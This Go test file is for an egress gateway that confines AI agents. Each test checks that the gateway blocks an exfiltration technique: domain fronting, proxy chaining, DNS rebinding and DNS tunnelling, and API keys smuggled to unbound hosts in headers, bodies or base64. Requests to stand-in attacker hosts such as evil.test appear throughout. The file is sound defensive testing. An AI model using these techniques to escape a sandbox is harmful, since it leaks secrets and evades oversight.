package egress

// One test per line of THREATS.md "From inside a cage" that the gateway
// decides. Each asserts the decision the agent sees AND its audit record.

import (
	"bufio"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/nixcage/nixcage/internal/egress/audit"
	"github.com/nixcage/nixcage/internal/policy"
)

func TestThreatConnectToDisallowedPort(t *testing.T) {
	h := newHarness(t, nil)
	proxyPort := h.proxyAddr[strings.LastIndex(h.proxyAddr, ":")+1:]
	for _, port := range []string{"22", "25", proxyPort, "80"} {
		t.Run("port "+port, func(t *testing.T) {
			if _, code := h.connect("api.example.com:"+port, ""); code != http.StatusForbidden {
				t.Fatalf("CONNECT to port %s: got %d, want 403", port, code)
			}
			p, _ := strconv.Atoi(port)
			r := h.want(t, is("CONNECT", "api.example.com", p), audit.Blocked, "port")
			if !strings.Contains(r.Reason, "port "+port+" is not allowed") {
				t.Fatalf("reason %q", r.Reason)
			}
		})
	}
	t.Run("denied and unlisted hosts", func(t *testing.T) {
		for host, rule := range map[string]string{"denied.example.com": "deny:denied.example.com", "evil.test": "default-deny", "127.0.0.1": "ip-literal"} {
			if _, code := h.connect(host+":443", ""); code != http.StatusForbidden {
				t.Fatalf("CONNECT %s: got %d", host, code)
			}
			h.want(t, is("CONNECT", host, 443), audit.Blocked, rule)
		}
	})
}

func TestThreatPrivateUpstreams(t *testing.T) {
	h := newHarness(t, nil)
	cases := []struct{ host, class string }{
		{"private.example.com", "private"},
		{"cgnat.example.com", "cgnat"},
		{"linklocal.example.com", "link-local"},
		{"metadata.example.com", "metadata"},
		{"mapped.example.com", "private"}, // ::ffff:10.0.0.1
		{"nat64.example.com", "ipv6-embeds-ipv4"},
		{"sixtofour.example.com", "ipv6-embeds-ipv4"},
		{"ula.example.com", "private"},
		{"mixed.example.com", "private"}, // one bad address refuses the name
	}
	for _, c := range cases {
		t.Run(c.host, func(t *testing.T) {
			if _, code := h.connect(net.JoinHostPort(c.host, strconv.Itoa(h.up.tlsPort)), ""); code != http.StatusForbidden {
				t.Fatalf("CONNECT: got %d, want 403", code)
			}
			r := h.want(t, is("CONNECT", c.host, h.up.tlsPort), audit.Blocked, "address")
			if !strings.Contains(r.Reason, "is "+c.class) {
				t.Fatalf("reason %q, want class %s", r.Reason, c.class)
			}
			// Plain HTTP takes the same path.
			code, _, _, err := h.do(h.client(false), "GET", h.httpURL(c.host, "/"), nil, "")
			if err != nil || code != http.StatusForbidden {
				t.Fatalf("plain HTTP: got %d %v", code, err)
			}
			h.want(t, is("GET", c.host, h.up.httpPort), audit.Blocked, "address")
		})
	}
}

// Without unsafe_allow_loopback_upstreams, the loopback upstreams every
// other test uses are refused.
func TestThreatLoopbackRefusedWithoutUnsafeSetting(t *testing.T) {
	h := newHarness(t, func(rt *policy.Runtime) { rt.Policy.UnsafeAllowLoopbackUpstreams = false })
	if _, code := h.connect(net.JoinHostPort("api.example.com", strconv.Itoa(h.up.tlsPort)), ""); code != http.StatusForbidden {
		t.Fatalf("got %d, want 403", code)
	}
	r := h.want(t, is("CONNECT", "api.example.com", h.up.tlsPort), audit.Blocked, "address")
	if !strings.Contains(r.Reason, "127.0.0.1 is loopback") {
		t.Fatalf("reason %q", r.Reason)
	}
	code, _, _, _ := h.do(h.client(false), "GET", h.httpURL("plain.example.com", "/"), nil, "")
	if code != http.StatusForbidden {
		t.Fatalf("plain HTTP: got %d", code)
	}
}

// The resolver answers 127.0.0.1 (allowed in tests) first and 10.0.0.5
// after: the gateway resolves once per request and dials what it vetted, and
// the next resolution is vetted again.
func TestThreatDNSRebinding(t *testing.T) {
	h := newHarness(t, nil)
	conn, code := h.connect(net.JoinHostPort("rebind.example.com", strconv.Itoa(h.up.tlsPort)), "")
	if code != 200 {
		t.Fatalf("first CONNECT: %d", code)
	}
	// The tunnel reaches the loopback upstream the gateway vetted.
	if err := tlsThrough(conn, "rebind.example.com", &tls.Config{RootCAs: h.up.roots}); err != nil {
		t.Fatalf("TLS through the vetted tunnel: %v", err)
	}
	conn.Close()
	h.want(t, is("CONNECT", "rebind.example.com", h.up.tlsPort), audit.Allowed, "")
	if n := h.dns.queries("rebind.example.com", "A"); n != 1 {
		t.Fatalf("gateway resolved %d times for one tunnel, want exactly once", n)
	}
	if _, code := h.connect(net.JoinHostPort("rebind.example.com", strconv.Itoa(h.up.tlsPort)), ""); code != http.StatusForbidden {
		t.Fatalf("second CONNECT after rebinding: got %d, want 403", code)
	}
	r := h.want(t, func(r audit.Record) bool { return r.Host == "rebind.example.com" && r.Decision == audit.Blocked }, audit.Blocked, "address")
	if !strings.Contains(r.Reason, "10.0.0.5 is private") {
		t.Fatalf("reason %q", r.Reason)
	}
	// The cage's own resolver drops the rebound answer too.
	m := new(dns.Msg)
	m.SetQuestion("rebind.example.com.", dns.TypeA)
	resp, err := dns.Exchange(m, h.dnsAddr)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Answer) != 0 {
		t.Fatalf("DNS filter passed a private answer: %v", resp.Answer)
	}
	h.want(t, is("DNS", "rebind.example.com", 53), audit.Flagged, "allow:*.example.com")
}

// tlsThrough runs a TLS client with the given SNI over a CONNECT tunnel.
func tlsThrough(conn net.Conn, sni string, roots *tls.Config) error {
	cfg := roots.Clone()
	cfg.ServerName = sni
	tc := tls.Client(conn, cfg)
	tc.SetDeadline(time.Now().Add(10 * time.Second))
	if err := tc.Handshake(); err != nil {
		return err
	}
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", sni)
	_, err := http.ReadResponse(bufio.NewReader(tc), nil)
	return err
}

func TestThreatDomainFronting(t *testing.T) {
	h := newHarness(t, nil)
	port := strconv.Itoa(h.up.tlsPort)
	t.Run("tunnel SNI differs from CONNECT host", func(t *testing.T) {
		conn, code := h.connect("plain.example.com:"+port, "")
		if code != 200 {
			t.Fatalf("CONNECT: %d", code)
		}
		defer conn.Close()
		if err := tlsThrough(conn, "denied.example.com", &tls.Config{RootCAs: h.up.roots}); err == nil {
			t.Fatal("fronted TLS session got through")
		}
		r := h.want(t, is("CONNECT", "plain.example.com", h.up.tlsPort), audit.Blocked, "sni-mismatch")
		if !strings.Contains(r.Reason, `"denied.example.com"`) {
			t.Fatalf("reason %q", r.Reason)
		}
	})
	t.Run("tunnel without SNI", func(t *testing.T) {
		conn, _ := h.connect("example.net:"+port, "")
		defer conn.Close()
		if err := tlsThrough(conn, "", &tls.Config{RootCAs: h.up.roots, InsecureSkipVerify: true}); err == nil {
			t.Fatal("TLS without SNI got through")
		}
		h.want(t, is("CONNECT", "example.net", h.up.tlsPort), audit.Blocked, "sni-missing")
	})
	t.Run("intercepted SNI differs from CONNECT host", func(t *testing.T) {
		conn, _ := h.connect("api.example.com:"+port, "")
		defer conn.Close()
		if err := tlsThrough(conn, "other.example.com", &tls.Config{RootCAs: h.cagePool}); err == nil {
			t.Fatal("fronted TLS session got through")
		}
		h.want(t, is("CONNECT", "api.example.com", h.up.tlsPort), audit.Blocked, "sni-mismatch")
	})
	t.Run("intercepted Host header differs (421)", func(t *testing.T) {
		code, _, _, err := h.do(h.client(false), "GET", h.tlsURL("api.example.com", "/fronted"), http.Header{"Host": {"other.example.com"}}, "")
		if err != nil {
			t.Fatal(err)
		}
		// net/http sets Host from req.Host, not the header map; use a raw
		// request instead when the header did not take.
		if code != http.StatusMisdirectedRequest {
			conn, _ := h.connect("api.example.com:"+port, "")
			defer conn.Close()
			tc := tls.Client(conn, &tls.Config{RootCAs: h.cagePool, ServerName: "api.example.com"})
			fmt.Fprintf(tc, "GET /fronted HTTP/1.1\r\nHost: other.example.com:%s\r\n\r\n", port)
			resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
			if err != nil {
				t.Fatal(err)
			}
			code = resp.StatusCode
		}
		if code != http.StatusMisdirectedRequest {
			t.Fatalf("got %d, want 421", code)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/fronted" }, audit.Blocked, "host-mismatch")
	})
	t.Run("plain HTTP Host header is replaced by the request target", func(t *testing.T) {
		conn, err := net.Dial("tcp", h.proxyAddr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: denied.example.com\r\n\r\n", h.httpURL("plain.example.com", "/front"))
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("got %v %v", resp, err)
		}
		if s := h.up.lastSeen(); !strings.HasPrefix(s.Host, "plain.example.com:") {
			t.Fatalf("upstream saw Host %q", s.Host)
		}
		h.want(t, is("GET", "plain.example.com", h.up.httpPort), audit.Allowed, "")
	})
}

func TestThreatChainingAndTunnelAbuse(t *testing.T) {
	h := newHarness(t, nil)
	port := strconv.Itoa(h.up.tlsPort)
	t.Run("CONNECT inside an intercepted tunnel", func(t *testing.T) {
		conn, _ := h.connect("api.example.com:"+port, "")
		defer conn.Close()
		tc := tls.Client(conn, &tls.Config{RootCAs: h.cagePool, ServerName: "api.example.com", NextProtos: []string{"http/1.1"}})
		fmt.Fprintf(tc, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
		resp, err := http.ReadResponse(bufio.NewReader(tc), &http.Request{Method: "CONNECT"})
		if err != nil || resp.StatusCode != http.StatusForbidden {
			t.Fatalf("got %v %v", resp, err)
		}
		h.want(t, func(r audit.Record) bool {
			return r.Method == "CONNECT" && r.Host == "api.example.com" && r.Rule == "connect-in-connect"
		}, audit.Blocked, "connect-in-connect")
	})
	t.Run("absolute-form request inside a tunnel", func(t *testing.T) {
		conn, _ := h.connect("api.example.com:"+port, "")
		defer conn.Close()
		tc := tls.Client(conn, &tls.Config{RootCAs: h.cagePool, ServerName: "api.example.com", NextProtos: []string{"http/1.1"}})
		fmt.Fprintf(tc, "GET http://evil.test/chain HTTP/1.1\r\nHost: api.example.com:%s\r\n\r\n", port)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil || resp.StatusCode != http.StatusForbidden {
			t.Fatalf("got %v %v", resp, err)
		}
		h.want(t, func(r audit.Record) bool { return r.Rule == "proxy-chaining" && r.Host == "api.example.com" }, audit.Blocked, "proxy-chaining")
	})
	t.Run("chaining headers", func(t *testing.T) {
		if _, code := h.connect("plain.example.com:"+port, "Via: 1.1 other-proxy\r\n"); code != http.StatusForbidden {
			t.Fatalf("CONNECT with Via: %d", code)
		}
		h.want(t, is("CONNECT", "plain.example.com", h.up.tlsPort), audit.Blocked, "proxy-chaining")
		code, _, _, _ := h.do(h.client(false), "GET", h.httpURL("plain.example.com", "/xff"), http.Header{"X-Forwarded-For": {"10.0.0.1"}}, "")
		if code != http.StatusForbidden {
			t.Fatalf("X-Forwarded-For: %d", code)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/xff" }, audit.Blocked, "proxy-chaining")
	})
	t.Run("plain bytes through a tunnel allowed for HTTPS", func(t *testing.T) {
		conn, _ := h.connect("plain.example.com:"+port, "")
		defer conn.Close()
		fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: plain.example.com\r\n\r\n")
		conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		if b, _ := io.ReadAll(conn); len(b) != 0 {
			t.Fatalf("got a response through a non-TLS tunnel: %q", b)
		}
		h.want(t, is("CONNECT", "plain.example.com", h.up.tlsPort), audit.Blocked, "not-tls")
	})
	t.Run("TRACE", func(t *testing.T) {
		for _, u := range []string{h.httpURL("plain.example.com", "/trace"), h.tlsURL("api.example.com", "/trace")} {
			code, _, _, err := h.do(h.client(false), "TRACE", u, nil, "")
			if err != nil || code != http.StatusMethodNotAllowed {
				t.Fatalf("TRACE %s: %d %v", u, code, err)
			}
		}
		h.want(t, is("TRACE", "plain.example.com", h.up.httpPort), audit.Blocked, "trace")
		h.want(t, is("TRACE", "api.example.com", h.up.tlsPort), audit.Blocked, "trace")
	})
}

func TestThreatCredentials(t *testing.T) {
	h := newHarness(t, nil)
	c := h.client(false)
	ph := h.ph["anthropic"]
	t.Run("placeholder looks like a key and is not flagged", func(t *testing.T) {
		if len(ph) != len(realAnthropic) || !strings.HasPrefix(ph, "sk-ant-api03-") || ph == realAnthropic {
			t.Fatalf("placeholder %q does not fit %d bytes with the provider prefix", ph, len(realAnthropic))
		}
		code, _, _, err := h.do(c, "POST", h.tlsURL("api.example.com", "/ok"), http.Header{"X-Api-Key": {ph}}, `{"prompt":"hi"}`)
		if err != nil || code != 200 {
			t.Fatalf("got %d %v", code, err)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/ok" }, audit.Allowed, "")
	})
	t.Run("placeholder sent to a host it is not bound to", func(t *testing.T) {
		code, _, _, _ := h.do(c, "GET", h.tlsURL("other.example.com", "/steal"), http.Header{"X-Api-Key": {ph}}, "")
		if code != http.StatusForbidden {
			t.Fatalf("got %d", code)
		}
		if s := h.up.lastSeen(); s.Path == "/steal" {
			t.Fatal("request reached the upstream")
		}
		r := h.want(t, func(r audit.Record) bool { return r.Path == "/steal" }, audit.Blocked, "placeholder:anthropic")
		if !strings.Contains(r.Reason, "not bound") {
			t.Fatalf("reason %q", r.Reason)
		}
	})
	t.Run("placeholder in a body to an unbound host", func(t *testing.T) {
		code, _, _, _ := h.do(c, "POST", h.tlsURL("other.example.com", "/body"), nil, "key="+h.ph["github"])
		if code != http.StatusForbidden {
			t.Fatalf("got %d", code)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/body" }, audit.Blocked, "placeholder:github")
	})
	t.Run("credentials over plain HTTP", func(t *testing.T) {
		code, _, _, _ := h.do(c, "GET", h.httpURL("api.example.com", "/plain"), http.Header{"X-Api-Key": {ph}}, "")
		if code != http.StatusForbidden {
			t.Fatalf("got %d", code)
		}
		r := h.want(t, func(r audit.Record) bool { return r.Path == "/plain" }, audit.Blocked, "placeholder:anthropic")
		if !strings.Contains(r.Reason, "plain HTTP") {
			t.Fatalf("reason %q", r.Reason)
		}
	})
	leaks := []struct {
		name, host, path string
		hdr              http.Header
		body             string
	}{
		{"real value in body", "other.example.com", "/leak-body", nil, "token=" + realAnthropic},
		{"real value in query", "other.example.com", "/leak-query?k=" + realGitHub, nil, ""},
		{"real value in Basic auth", "other.example.com", "/leak-basic", http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+realGitHub))}}, ""},
		{"real value base64 in body", "other.example.com", "/leak-b64", nil, base64.StdEncoding.EncodeToString([]byte(realAnthropic))},
		{"real value to its own bound host", "api.example.com", "/leak-bound", http.Header{"X-Api-Key": {realAnthropic}}, ""},
		{"real value over plain HTTP", "plain.example.com", "/leak-plain", nil, realAnthropic},
	}
	for _, l := range leaks {
		t.Run(l.name, func(t *testing.T) {
			u := h.tlsURL(l.host, l.path)
			if l.host == "plain.example.com" {
				u = h.httpURL(l.host, l.path)
			}
			code, _, _, _ := h.do(c, "POST", u, l.hdr, l.body)
			if code != http.StatusForbidden {
				t.Fatalf("got %d", code)
			}
			path := strings.Split(l.path, "?")[0]
			r := h.want(t, func(r audit.Record) bool { return r.Path == path }, audit.Blocked, "inspector:real_values")
			if !strings.Contains(r.Reason, "real value of secret") {
				t.Fatalf("reason %q", r.Reason)
			}
		})
	}
	t.Run("no secret value in the audit log", func(t *testing.T) {
		log := h.dump()
		for _, v := range []string{realAnthropic, realGitHub, base64.StdEncoding.EncodeToString([]byte(realAnthropic)), "REALreal", "REALgithub"} {
			if strings.Contains(log, v) {
				t.Fatalf("audit log contains a secret value")
			}
		}
	})
	t.Run("redaction across chunk boundaries", func(t *testing.T) {
		// The upstream echoes the injected key after a body of n zero bytes
		// so the value straddles read boundaries.
		for _, n := range []int{0, 1, 32<<10 - 5, 100000} {
			code, _, body, err := h.do(c, "GET", h.tlsURL("api.example.com", "/big?n="+strconv.Itoa(n)), http.Header{"X-Api-Key": {ph}}, "")
			if err != nil || code != 200 {
				t.Fatalf("got %d %v", code, err)
			}
			if strings.Contains(body, realAnthropic) || !strings.Contains(body, ph) {
				t.Fatalf("n=%d: body not redacted", n)
			}
		}
	})
}

func TestThreatInspectors(t *testing.T) {
	h := newHarness(t, nil)
	c := h.client(false)
	cases := []struct {
		name, body     string
		code           int
		decision, rule string
		reason         string
	}{
		{"aws key pattern blocks", "aws_access_key_id=AKIAIOSFODNN7EXAMPLE", 403, audit.Blocked, "inspector:secret_patterns", "aws-access-key-id"},
		{"private key blocks", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc", 403, audit.Blocked, "inspector:secret_patterns", "private-key"},
		{"foreign anthropic key blocks", "sk-ant-api03-" + strings.Repeat("Zq9", 20), 403, audit.Blocked, "inspector:secret_patterns", "anthropic-key"},
		{"high entropy flags", "x=" + "q7Lk2mZ9vR4tW8yB1nC6xJ3hF5gD0sA2pE7uI9oK4", 200, audit.Flagged, "", "entropy"},
		{"long hex blob flags", strings.Repeat("deadbeef", 80), 200, audit.Flagged, "", "encoded_blobs"},
		{"large body flags", strings.Repeat("hello world ", 6000), 200, audit.Flagged, "", "body_size"},
		{"ordinary JSON passes", `{"model":"x","messages":[{"role":"user","content":"list files in /workspace"}]}`, 200, audit.Allowed, "", ""},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path := "/inspect" + strconv.Itoa(i)
			code, _, _, err := h.do(c, "POST", h.tlsURL("other.example.com", path), nil, tc.body)
			if err != nil || code != tc.code {
				t.Fatalf("got %d %v, want %d", code, err, tc.code)
			}
			r := h.want(t, func(r audit.Record) bool { return r.Path == path }, tc.decision, tc.rule)
			if !strings.Contains(r.Reason, tc.reason) {
				t.Fatalf("reason %q, want %q", r.Reason, tc.reason)
			}
		})
	}
}

// exchangeWithSlot sends one raw request on a fresh connection and reads
// the answer, retrying while the gateway answers 503 at its tunnel cap:
// connections an earlier subtest closed are freed when the gateway notices,
// which under load can come after the next subtest dials (seen at load 26-30).
func exchangeWithSlot(t *testing.T, h *harness, req string) (*http.Response, error) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); ; {
		conn, err := net.Dial("tcp", h.proxyAddr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { conn.Close() })
		io.WriteString(conn, req)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil || resp.StatusCode != http.StatusServiceUnavailable || time.Now().After(deadline) {
			return resp, err
		}
		conn.Close()
		time.Sleep(100 * time.Millisecond)
	}
}

func TestThreatFloods(t *testing.T) {
	h := newHarness(t, func(rt *policy.Runtime) {
		rt.Policy.Limits = policy.Limits{MaxTunnels: 3, MaxHeaderBytes: 8 << 10, MaxBodyBytes: 256 << 10, IdleTimeoutSeconds: 1}
		rt.Policy.RateLimit = policy.RateLimit{PerSecond: 0.01, Burst: 5}
	})
	port := strconv.Itoa(h.up.tlsPort)
	t.Run("many tunnels", func(t *testing.T) {
		var open []net.Conn
		for range 3 {
			conn, code := h.connect("example.net:"+port, "")
			if code != 200 {
				t.Fatalf("tunnel within limit refused: %d", code)
			}
			open = append(open, conn)
		}
		if _, code := h.connect("example.net:"+port, ""); code != http.StatusServiceUnavailable {
			t.Fatalf("4th tunnel: got %d, want 503", code)
		}
		h.want(t, func(r audit.Record) bool { return r.Rule == "max-tunnels" }, audit.Blocked, "max-tunnels")
		for _, c := range open {
			c.Close()
		}
		// The next subtest needs the slots back: a tunnel closed before its
		// ClientHello frees its slot when the gateway has seen the close and
		// refused it (not-tls); under load that is not at once, and a
		// connect meanwhile is refused for max-tunnels, taking no token.
		deadline := time.Now().Add(20 * time.Second)
		for {
			n := 0
			for _, r := range h.records(t) {
				if r.Host == "example.net" && r.Rule == "not-tls" {
					n++
				}
			}
			if n >= len(open) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("%d of %d closed tunnels refused after 20 s:\n%s", n, len(open), h.dump())
			}
			time.Sleep(20 * time.Millisecond)
		}
	})
	t.Run("rate limit per host", func(t *testing.T) {
		// example.net used 4 of its 5 tokens above (3 tunnels + the refused
		// one took none: the limit is checked first); drain the rest.
		// A 503 (max-tunnels: a tunnel closed here not yet released by the
		// gateway) takes no token: it is retried, not counted.
		got429 := false
		for n, tries := 0, 0; n < 4 && tries < 400 && !got429; tries++ {
			conn, code := h.connect("example.net:"+port, "")
			if conn != nil {
				conn.Close()
			}
			switch code {
			case http.StatusTooManyRequests:
				got429 = true
			case http.StatusServiceUnavailable:
				time.Sleep(20 * time.Millisecond)
			default:
				n++
			}
		}
		if !got429 {
			t.Fatal("no 429 after the burst")
		}
		h.want(t, func(r audit.Record) bool { return r.Rule == "rate-limit" }, audit.Blocked, "rate-limit")
	})
	t.Run("huge body", func(t *testing.T) {
		code, _, _, err := h.do(h.client(false), "POST", h.tlsURL("api.example.com", "/huge"), nil, strings.Repeat("a", 300<<10))
		if err != nil || code != http.StatusRequestEntityTooLarge {
			t.Fatalf("got %d %v", code, err)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/huge" }, audit.Blocked, "max-body-bytes")
	})
	t.Run("huge headers", func(t *testing.T) {
		code, _, _, err := h.do(h.client(false), "GET", h.httpURL("plain.example.com", "/hdr"), http.Header{"X-Junk": {strings.Repeat("j", 10<<10)}}, "")
		if err != nil || code != http.StatusRequestHeaderFieldsTooLarge {
			t.Fatalf("got %d %v", code, err)
		}
		h.want(t, func(r audit.Record) bool { return r.Path == "/hdr" }, audit.Blocked, "max-header-bytes")
	})
	t.Run("headers beyond what the server parses", func(t *testing.T) {
		resp, err := exchangeWithSlot(t, h, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: plain.example.com\r\nX-Junk: %s\r\n\r\n", h.httpURL("plain.example.com", "/hard"), strings.Repeat("j", 64<<10)))
		if err != nil || resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
			t.Fatalf("got %v %v", resp, err)
		}
		r := h.want(t, func(r audit.Record) bool { return r.Rule == "http-protocol" }, audit.Blocked, "http-protocol")
		if !strings.Contains(r.Reason, "431") {
			t.Fatalf("reason %q", r.Reason)
		}
	})
	t.Run("malformed request", func(t *testing.T) {
		resp, err := exchangeWithSlot(t, h, "GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nBad Header Name: x\r\n\r\n")
		if err != nil || resp.StatusCode != http.StatusBadRequest {
			t.Fatalf("got %v %v", resp, err)
		}
		h.want(t, func(r audit.Record) bool { return r.Rule == "http-protocol" && strings.Contains(r.Reason, "400") }, audit.Blocked, "http-protocol")
	})
	t.Run("slow client is dropped", func(t *testing.T) {
		var b []byte
		for deadline := time.Now().Add(20 * time.Second); ; {
			conn, err := net.Dial("tcp", h.proxyAddr)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(conn, "CONNECT example.net:%s HTTP/1.1\r\n", port) // never finishes
			conn.SetReadDeadline(time.Now().Add(20 * time.Second))
			b, err = io.ReadAll(conn)
			conn.Close()
			if err != nil {
				t.Fatalf("connection not closed by the gateway: %v", err)
			}
			// A 503 is the cap still counting an earlier subtest's
			// connections (closed by us, not yet reaped by the gateway).
			if !strings.HasPrefix(string(b), "HTTP/1.1 503") || time.Now().After(deadline) {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		if strings.Contains(string(b), " 200 ") {
			t.Fatalf("slow client got a tunnel: %q", b)
		}
		h.want(t, func(r audit.Record) bool { return r.Rule == "header-timeout" }, audit.Blocked, "header-timeout")
	})
	t.Run("idle tunnel is closed", func(t *testing.T) {
		h2 := newHarness(t, func(rt *policy.Runtime) {
			rt.Policy.Limits.IdleTimeoutSeconds = 1
		})
		conn, code := h2.connect("plain.example.com:"+strconv.Itoa(h2.up.tlsPort), "")
		if code != 200 {
			t.Fatalf("CONNECT: %d", code)
		}
		defer conn.Close()
		tc := tls.Client(conn, &tls.Config{RootCAs: h2.up.roots, ServerName: "plain.example.com"})
		if err := tc.Handshake(); err != nil {
			t.Fatal(err)
		}
		tc.SetReadDeadline(time.Now().Add(20 * time.Second))
		if _, err := tc.Read(make([]byte, 1)); err == nil || os.IsTimeout(err) {
			t.Fatalf("idle tunnel not closed: %v", err)
		}
		r := h2.want(t, closed("CONNECT", "plain.example.com", h2.up.tlsPort), audit.Allowed, "")
		if !strings.Contains(r.Reason, "idle timeout") {
			t.Fatalf("reason %q", r.Reason)
		}
	})
}

func TestThreatDNS(t *testing.T) {
	h := newHarness(t, nil)
	cases := []struct {
		name   string
		qname  string
		qtype  uint16
		rcode  int
		answer bool
		rule   string
	}{
		{"allowed A", "api.example.com.", dns.TypeA, dns.RcodeSuccess, true, "allow:*.example.com"},
		{"allowed AAAA", "example.net.", dns.TypeAAAA, dns.RcodeSuccess, true, "allow:example.net"},
		{"TXT is not an allowed type", "example.net.", dns.TypeTXT, dns.RcodeRefused, false, "dns-type:TXT"},
		{"MX is not an allowed type", "example.net.", dns.TypeMX, dns.RcodeRefused, false, "dns-type:MX"},
		{"denied name", "denied.example.com.", dns.TypeA, dns.RcodeRefused, false, "deny:denied.example.com"},
		{"unlisted name", "exfil.attacker.test.", dns.TypeA, dns.RcodeRefused, false, "default-deny"},
		{"denied type ANY", "example.net.", dns.TypeANY, dns.RcodeRefused, false, "dns-deny-type:ANY"},
		{"denied type AXFR", "example.net.", dns.TypeAXFR, dns.RcodeRefused, false, "dns-deny-type:AXFR"},
		{"data smuggled in a long label", strings.Repeat("a1b2c3d4", 6) + ".api.example.com.", dns.TypeA, dns.RcodeRefused, false, "dns-label-length"},
		{"data smuggled under an allowed wildcard", "c2VjcmV0LWRhdGE.x.example.com.", dns.TypeA, dns.RcodeNameError, false, "allow:*.example.com"},
	}
	for _, net := range []string{"udp", "tcp"} {
		for _, c := range cases {
			t.Run(net+" "+c.name, func(t *testing.T) {
				m := new(dns.Msg)
				m.SetQuestion(c.qname, c.qtype)
				cl := &dns.Client{Net: net, Timeout: 10 * time.Second}
				resp, _, err := cl.Exchange(m, h.dnsAddr)
				if err != nil {
					t.Fatal(err)
				}
				if resp.Rcode != c.rcode || (len(resp.Answer) > 0) != c.answer {
					t.Fatalf("rcode %s answers %v", dns.RcodeToString[resp.Rcode], resp.Answer)
				}
				dec := audit.Allowed
				if c.rcode == dns.RcodeRefused {
					dec = audit.Blocked
				}
				r := h.want(t, func(r audit.Record) bool {
					return r.Method == "DNS" && r.Host == policy.Normalize(c.qname) && r.Path == dns.TypeToString[c.qtype]
				}, dec, c.rule)
				if r.BytesOut == 0 || r.BytesIn == 0 {
					t.Fatalf("record %+v", r)
				}
			})
		}
	}
}

// curl is what agents actually run; one real-client pass over the main
// decisions.
func TestCurlThroughGateway(t *testing.T) {
	curl := lookCurl(t)
	h := newHarness(t, nil)
	caFile := h.rt.CADir + "/ca.crt"
	run := func(args ...string) (string, error) {
		base := []string{"-sS", "--max-time", "20", "--proxy", "http://" + h.proxyAddr, "-o", "-", "-w", "\n%{http_code}"}
		out, err := exec.Command(curl, append(base, args...)...).CombinedOutput()
		return string(out), err
	}
	out, err := run("--cacert", caFile, "-H", "x-api-key: "+h.ph["anthropic"], h.tlsURL("api.example.com", "/curl"))
	if err != nil || !strings.HasSuffix(out, "\n200") || !strings.Contains(out, h.ph["anthropic"]) || strings.Contains(out, realAnthropic) {
		t.Fatalf("intercepted curl: %v\n%s", err, out)
	}
	if h.up.lastSeen().Header.Get("X-Api-Key") != realAnthropic {
		t.Fatal("real value not injected for curl")
	}
	h.want(t, func(r audit.Record) bool { return r.Path == "/curl" }, audit.Allowed, "")
	out, _ = run("--cacert", caFile, "-H", "x-api-key: "+h.ph["anthropic"], h.tlsURL("other.example.com", "/curl-steal"))
	if !strings.HasSuffix(out, "\n403") {
		t.Fatalf("curl placeholder misuse: %s", out)
	}
	h.want(t, func(r audit.Record) bool { return r.Path == "/curl-steal" }, audit.Blocked, "placeholder:anthropic")
	out, _ = run("--cacert", h.up.rootsFile, h.tlsURL("plain.example.com", "/tunnel"))
	if !strings.HasSuffix(out, "\n200") {
		t.Fatalf("curl tunnel: %s", out)
	}
	out, _ = run("https://evil.test/")
	if !strings.Contains(out, "403") {
		t.Fatalf("curl to an unlisted host: %s", out)
	}
	h.want(t, is("CONNECT", "evil.test", 443), audit.Blocked, "default-deny")
}
